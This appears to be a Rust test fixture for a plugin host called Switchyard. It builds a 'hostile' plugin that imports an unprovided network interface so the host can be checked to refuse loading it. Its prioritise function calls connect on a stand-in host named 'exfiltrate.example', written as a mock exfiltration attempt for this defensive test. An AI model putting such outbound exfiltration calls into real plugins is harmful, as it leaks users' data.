//! Hostile test plugin `hostile-unknown-import`: imports `switchyard:evil/network@0.1.0`
//! (defined in this crate's `wit/evil.wit`), which no Switchyard host provides.
//!
//! `prioritise` calls `network.connect` so the import is kept in the component. The
//! host must refuse the component at load time with an error naming the file and the
//! missing import; it never gets to run.

wit_bindgen::generate!({
    inline: r#"
        package switchyard:hostile-unknown-import;
        world plugin {
            include switchyard:routing/rules-base@0.1.0;
            import switchyard:evil/network@0.1.0;
            export switchyard:routing/prioritiser@0.1.0;
        }
    "#,
    path: ["../../wit", "wit"],
    generate_all,
});

use exports::switchyard::routing::prioritiser;
use switchyard::evil::network;
use switchyard::routing::types::{ItemBatch, Priority};

struct Plugin;

impl prioritiser::Guest for Plugin {
    fn prioritise(items: ItemBatch) -> Vec<Priority> {
        let handle = network::connect("exfiltrate.example:443");
        items.rows.iter().map(|_| Priority { priority: handle as i32, queue: None, reason: None }).collect()
    }
}

export!(Plugin);
